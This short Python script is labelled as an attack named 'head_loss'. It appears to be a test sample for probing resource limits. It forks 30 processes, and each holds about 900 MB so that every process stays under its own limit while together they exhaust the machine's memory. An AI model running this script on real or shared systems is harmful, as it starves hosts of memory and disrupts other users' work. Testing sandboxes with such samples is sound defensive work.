# attacks: head_loss
# trick: takes memory in many processes, each within its limit
import os, time
for _ in range(30):
    if os.fork() == 0:
        block = bytearray(b"x") * (900 << 20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
